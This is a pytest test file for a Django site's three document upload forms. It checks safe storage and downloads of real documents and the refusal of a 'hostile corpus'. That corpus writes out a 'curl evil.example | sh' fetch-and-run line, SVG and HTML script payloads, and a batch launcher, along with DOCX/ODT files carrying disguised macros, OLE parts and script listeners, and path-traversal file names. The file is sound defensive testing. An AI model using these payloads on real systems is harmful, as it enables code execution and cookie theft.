"""The hostile upload corpus, run through each of the three upload forms.

Programme drafts (a city contact), meeting documents (the programme management
as organiser) and agreement documents (the programme management): every file
below is posted through the form as a browser would, and the verdict, the
form's message, what is stored (name on the server, extension, content type)
and the download (name and headers) are asserted exactly.
"""

import datetime
import io
import re
from dataclasses import dataclass
from functools import cache

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from django.urls import reverse
from django.utils import timezone, translation
from pypdf import PdfWriter

from actionplans import services as programme_services
from actionplans.models import Draft
from agreements import services as agreement_services
from agreements.models import Agreement, AgreementDocument
from cities.models import Organisation
from lib import downloads, files, uploads
from meetings.models import Attachment
from tests.files import (
    OLE2,
    VBA_RELATIONSHIP,
    make_docx,
    make_docx_with,
    make_exe,
    make_odt,
    make_odt_with,
    make_odt_with_macro,
    make_pdf,
    make_pdf_without_pages,
    make_xlsx,
    polyglot,
)
from tests.meetings.conftest import gathering_at

PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
ODT = "application/vnd.oasis.opendocument.text"

UNSUPPORTED = "Only PDF, DOCX and ODT documents are accepted; this file is not one of them."
CORRUPT = "The document is damaged or not a valid PDF, DOCX or ODT file."
MACROS = "Documents with macros are not accepted."
OLE = "Documents with embedded objects from other programs (OLE) are not accepted; insert them as pictures."
ENCRYPTED = "The PDF is protected by a password; save it without one and upload it again."


@pytest.fixture(autouse=True)
def _own_media(settings, tmp_path):
    """Each test its own storage, so that "nothing stored" can be checked on disk."""
    settings.MEDIA_ROOT = tmp_path / "media"


def stored_files(settings):
    root = settings.MEDIA_ROOT
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()) if root.exists() else []


# The three forms -------------------------------------------------------------------------------


@dataclass
class Site:
    """One upload form: where it posts, what else it needs, where its files go and come back from."""

    url: str
    fields: dict
    model: type
    folder: str  # the server-made names: <folder><32 hex><extension>
    download: str  # URL name of the download view
    page: str  # the page that lists the uploaded file by its original name


@pytest.fixture
def draft_site(client, contact_oslo, oslo_programme):
    client.force_login(contact_oslo)
    return Site(
        url=reverse("actionplans:draft_upload", args=[oslo_programme.pk]),
        fields={"note": "Nytt utkast"},
        model=Draft,
        folder=f"drafts/{oslo_programme.pk}/",
        download="actionplans:draft_download",
        page=reverse("actionplans:programme_detail", args=[oslo_programme.pk]),
    )


@pytest.fixture
def meeting_site(client, manager, atp, oslo):
    starts = (timezone.now() + datetime.timedelta(days=10)).replace(hour=9, minute=0, second=0, microsecond=0)
    meeting = gathering_at(manager, [atp], oslo, starts)
    client.force_login(manager)
    return Site(
        url=reverse("meetings:attachment_upload", args=[meeting.pk]),
        fields={"title": "Byens presentasjon"},
        model=Attachment,
        folder=f"meetings/{meeting.pk}/",
        download="meetings:attachment_download",
        page=reverse("meetings:meeting_detail", args=[meeting.pk]),
    )


@pytest.fixture
def agreement_site(client, manager, atp, bergen, partner):
    agreement = Agreement.objects.create(title="Belønningsordning", kind="long_term_economic", created_by=manager)
    agreement.theme_areas.set([atp])
    agreement_services.set_parties(
        agreement, cities=[bergen], organisations=[Organisation.objects.get(short_name="KS")]
    )
    client.force_login(manager)
    return Site(
        url=reverse("agreements:document_upload", args=[agreement.pk]),
        fields={"kind": "draft", "note": ""},
        model=AgreementDocument,
        folder=f"agreements/{agreement.pk}/",
        download="agreements:document_download",
        page=reverse("agreements:agreement_detail", args=[agreement.pk]),
    )


@pytest.fixture(params=["draft_site", "meeting_site", "agreement_site"])
def site(request, client, db):
    client.cookies["django_language"] = "en"
    return request.getfixturevalue(request.param)


def post(client, site, content, name):
    return client.post(site.url, {**site.fields, "file": SimpleUploadedFile(name, content, "application/pdf")})


# Valid documents made by real tools ----------------------------------------------------------------


@cache
def weasyprint_pdf():
    from weasyprint import HTML

    return HTML(string="<h1>Handlingsprogram for Oslo</h1><p>Tiltak for færre utslipp.</p>").write_pdf()


def _docx_with_chart_data():
    """Word keeps a chart's numbers as a spreadsheet package inside the document: no macro, so accepted."""
    return make_docx_with({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": make_xlsx()})


def _odt_with_empty_scripts():
    """LibreOffice writes an empty <office:scripts/> into every document; it holds no code."""
    return make_odt_with(before_body="<office:scripts/>")


VALID = {
    "pdf-weasyprint": (weasyprint_pdf, "Handlingsprogram Oslo.exe", PDF, ".pdf", "Handlingsprogram-Oslo.pdf"),
    "pdf-minimal": (make_pdf, "møtereferat.pdf", PDF, ".pdf", "motereferat.pdf"),
    "docx": (make_docx, "Årsrapport 2030.docx", DOCX, ".docx", "Arsrapport-2030.docx"),
    "docx-chart-data": (_docx_with_chart_data, "graf.pdf", DOCX, ".docx", "graf.docx"),
    "odt": (make_odt, "../../etc/Tiltak.odt.bat", ODT, ".odt", "Tiltak-odt.odt"),
    "odt-empty-scripts": (_odt_with_empty_scripts, "…", ODT, ".odt", "document.odt"),
}


@pytest.mark.parametrize(("make", "name", "content_type", "extension", "download_name"), VALID.values(), ids=VALID)
def test_valid_document_is_stored_and_downloaded_safely(
    client, settings, site, make, name, content_type, extension, download_name
):
    content = make()

    response = post(client, site, content, name)

    assert response.status_code == 302
    stored = site.model.objects.get()
    shown = name.rsplit("/", 1)[-1]
    assert (stored.original_name, stored.extension, stored.content_type, stored.size) == (
        shown,
        extension,
        content_type,
        len(content),
    )
    assert re.fullmatch(rf"{site.folder}[0-9a-f]{{32}}{re.escape(extension)}", stored.file.name)
    assert stored_files(settings) == [stored.file.name]
    assert shown in client.get(site.page).content.decode()

    download = client.get(reverse(site.download, args=[stored.pk]))

    assert download.status_code == 200
    assert b"".join(download.streaming_content) == content
    assert {key: download[key] for key in ("Content-Type", "Content-Disposition", "X-Content-Type-Options")} == {
        "Content-Type": content_type,
        "Content-Disposition": f'attachment; filename="{download_name}"',
        "X-Content-Type-Options": "nosniff",
    }
    assert download["Cache-Control"] == "private, no-store"


def test_large_upload_kept_in_a_temporary_file_is_checked_from_it(client, settings, site):
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024  # so that Django writes the upload to a temporary file

    response = post(client, site, weasyprint_pdf(), "Handlingsprogram.pdf")

    assert response.status_code == 302
    stored = site.model.objects.get()
    assert (stored.extension, stored.content_type, stored.size) == (".pdf", PDF, len(weasyprint_pdf()))


# The hostile corpus ---------------------------------------------------------------------------------


def _pdf_with_password():
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("hemmelig", algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><!--'
CONTROL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/control"
SCRIPT_LISTENER = (
    '<office:event-listeners><s:event-listener s:language="ooo:script" s:event-name="dom:mouseover"'
    ' xlink:href="vnd.sun.star.script:LibreLogo|LibreLogo.py$commandline?language=Python&amp;location=share"/>'
    "</office:event-listeners>"
)
HOSTILE = {
    # Other formats with the PDF markers inside: each starts as what it is.
    "exe-with-pdf": (lambda: polyglot(make_exe()), UNSUPPORTED),
    "elf-with-pdf": (lambda: polyglot(b"\x7fELF\x02\x01\x01\x00" + bytes(56)), UNSUPPORTED),
    "html-with-pdf": (lambda: polyglot(b"<html><script>alert(1)</script><!--", b"--></html>"), UNSUPPORTED),
    "svg-with-pdf": (lambda: polyglot(b'<?xml version="1.0"?>\n' + SVG, b"--></svg>"), UNSUPPORTED),
    "svg-after-bom-and-space": (lambda: polyglot(b"\xef\xbb\xbf \r\n" + SVG, b"--></svg>"), UNSUPPORTED),
    "batch-with-pdf": (lambda: polyglot(b"@echo off\r\nstart calc.exe\r\nexit /b\r\n"), UNSUPPORTED),
    "shell-script-with-pdf": (lambda: polyglot(b"#!/bin/sh\ncurl evil.example | sh\nexit 0\n"), UNSUPPORTED),
    "pdf-markers-only": (lambda: b"%PDF-1.7\n" + b"ikke en pdf " * 100 + b"\n%%EOF\n", CORRUPT),
    "pdf-without-pages": (make_pdf_without_pages, CORRUPT),
    "pdf-with-password": (_pdf_with_password, ENCRYPTED),
    # Macros under names other than the usual ones.
    "docx-vba-renamed-as-image": (
        lambda: make_docx_with(
            {"word/media/image1.png": OLE2},
            content_types_extra='\n<Default Extension="png" ContentType="image/png"/>',
            document_rels=[(VBA_RELATIONSHIP, "media/image1.png")],
        ),
        MACROS,
    ),
    "docx-macro-relationship": (
        lambda: make_docx_with({"word/x.dat": b"data"}, document_rels=[(VBA_RELATIONSHIP, "x.dat")]),
        MACROS,
    ),
    "docx-macro-relationship-by-character-reference": (
        lambda: make_docx_with(
            {"word/x.dat": b"data"},
            document_rels=[("http://schemas.microsoft.com/office/2006/relationships/&#118;baProject", "x.dat")],
        ),
        MACROS,
    ),
    "docx-vba-data-content-type": (
        lambda: make_docx_with(
            {"word/notes.xml": "<x/>"},
            content_types_extra='\n<Override PartName="/word/notes.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
        ),
        MACROS,
    ),
    "docx-activex-control": (
        lambda: make_docx_with({"word/controls/c1.xml": "<x/>"}, document_rels=[(CONTROL, "controls/c1.xml")]),
        MACROS,
    ),
    "docx-macro-enabled-content-type": (
        lambda: make_docx_with(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        MACROS,
    ),
    "docx-ole-part-under-harmless-name": (lambda: make_docx_with({"word/media/image2.png": OLE2}), OLE),
    "docx-macro-spreadsheet-inside": (
        lambda: make_docx_with(
            {
                "word/embeddings/chart.xlsx": make_xlsx(
                    {
                        "xl/_rels/workbook.xml.rels": f'<Relationships><Relationship Id="r" Type="{VBA_RELATIONSHIP}"'
                        ' Target="data.bin"/></Relationships>',
                        "xl/data.bin": b"data",
                    }
                )
            }
        ),
        MACROS,
    ),
    "odt-basic-library": (make_odt_with_macro, MACROS),
    "odt-scripts": (lambda: make_odt_with({"Scripts/python/hjelp.py": "import os\n"}), MACROS),
    "odt-script-manifest-entry": (
        lambda: make_odt_with(
            {"Pictures/logo.xml": "<x/>"},
            manifest_extra='\n<manifest:file-entry manifest:full-path="Pictures/logo.xml"'
            ' manifest:media-type="application/vnd.sun.xml.basic"/>',
        ),
        MACROS,
    ),
    "odt-event-listener": (lambda: make_odt_with(body=f"<text:p>Hei</text:p>{SCRIPT_LISTENER}"), MACROS),
    "odt-macro-link": (
        lambda: make_odt_with(
            body='<text:p><text:a xlink:href="macro:///Standard.Module1.Main">Klikk</text:a></text:p>'
        ),
        MACROS,
    ),
}


@pytest.mark.parametrize(("make", "message"), HOSTILE.values(), ids=HOSTILE)
def test_hostile_file_is_refused_with_a_message_and_nothing_is_stored(client, settings, site, make, message):
    response = post(client, site, make(), "Handlingsprogram.pdf")

    assert response.status_code == 200
    assert response.context["form"].errors == {"file": [message]}
    assert not site.model.objects.exists()
    assert stored_files(settings) == []


# The review frame and the generated PDFs --------------------------------------------------------------


def test_review_frame_shows_a_checked_pdf_inline_and_nothing_else(
    client, coordinator, bergen_programme, contact_bergen
):
    pdf = programme_services.upload_draft(
        bergen_programme,
        file=SimpleUploadedFile("Bergen plan.pdf", weasyprint_pdf()),
        inspected=files.inspect_upload(SimpleUploadedFile("x", weasyprint_pdf()), max_size=10**7),
        note="",
        by=contact_bergen,
    )
    docx_file = SimpleUploadedFile("Bergen plan.docx", make_docx())
    docx = programme_services.upload_draft(
        bergen_programme,
        file=docx_file,
        inspected=files.inspect_upload(docx_file, max_size=10**7),
        note="",
        by=contact_bergen,
    )
    programme_services.submit_programme(bergen_programme, by=contact_bergen)
    client.force_login(coordinator)

    shown = client.get(reverse("actionplans:draft_inline", args=[pdf.pk]))

    assert shown.status_code == 200
    assert {key: shown[key] for key in ("Content-Type", "Content-Disposition", "X-Content-Type-Options")} == {
        "Content-Type": PDF,
        "Content-Disposition": 'inline; filename="Bergen-plan.pdf"',
        "X-Content-Type-Options": "nosniff",
    }
    assert shown["Cache-Control"] == "private, no-store"
    assert client.get(reverse("actionplans:draft_inline", args=[docx.pk])).status_code == 404


def test_safe_download_response_refuses_inline_for_anything_but_a_pdf():
    with pytest.raises(ValueError, match="Only a checked PDF is shown inline."):
        downloads.safe_download_response(
            io.BytesIO(b"x"), name="a.docx", content_type=DOCX, extension=".docx", inline=True
        )


@pytest.mark.parametrize(
    ("name", "extension", "expected"),
    [
        ("Handlingsprogram.exe", ".pdf", "Handlingsprogram.pdf"),
        ("Møte i Tromsø – «utkast» v2.docx", ".docx", "Mote-i-Tromso-utkast-v2.docx"),
        ("C:\\Users\\kari\\Ærlig talt.odt", ".odt", "AErlig-talt.odt"),
        ('"; filename=evil.exe', ".pdf", "filename-evil.pdf"),
        (".htaccess", ".pdf", "htaccess.pdf"),
        ("...", ".odt", "document.odt"),
    ],
)
def test_download_name_is_the_safe_stem_and_the_detected_extension(name, extension, expected):
    with translation.override("en"):
        assert downloads.download_name(name, extension) == expected


# Too large: stopped while the request is read ------------------------------------------------------


def test_file_over_the_limit_is_refused_while_received(client, settings, site):
    settings.UPLOAD_MAX_BYTES = 512 * 1024  # "0.5 MB"; the request (0.6 MB) is within its allowance

    response = post(client, site, make_pdf() + b" " * (600 * 1024), "stor.pdf")

    assert response.status_code == 200
    assert response.context["form"].errors["file"] == ["The file is larger than 0.5 MB."]
    assert not site.model.objects.exists()
    assert stored_files(settings) == []


def test_request_declared_over_the_limit_is_refused_before_the_file_is_read(client, settings, site):
    settings.UPLOAD_MAX_BYTES = 512 * 1024  # the request (2 MB) passes limit and allowance as declared

    response = post(client, site, make_pdf() + b" " * (2 * 1024 * 1024), "stor.pdf")

    assert response.status_code == 200
    assert response.context["form"].errors["file"] == ["The file is larger than 0.5 MB."]
    assert not site.model.objects.exists()
    assert stored_files(settings) == []


@pytest.mark.parametrize(
    ("size", "unread_at_least"),
    [(1400 * 1024, 700 * 1024), (3 * 1024 * 1024, 3 * 1024 * 1024 - 70 * 1024)],
    ids=["received", "declared"],
)
def test_upload_handler_stops_reading_the_body(settings, size, unread_at_least):
    settings.UPLOAD_MAX_BYTES = 512 * 1024
    body = encode_multipart(BOUNDARY, {"title": "Stor", "file": SimpleUploadedFile("stor.pdf", bytes(size))})
    request = RequestFactory().generic("POST", "/", body, content_type=MULTIPART_CONTENT)

    files = uploads.uploaded_files(request)

    assert request.POST["title"] == "Stor"
    assert [(type(f).__name__, f.name) for f in files.getlist("file")] == [("OversizedUpload", "stor.pdf")]
    # What was never read from the client (the parser reads at most one 64 KB chunk ahead).
    assert len(request.META["wsgi.input"]) >= unread_at_least
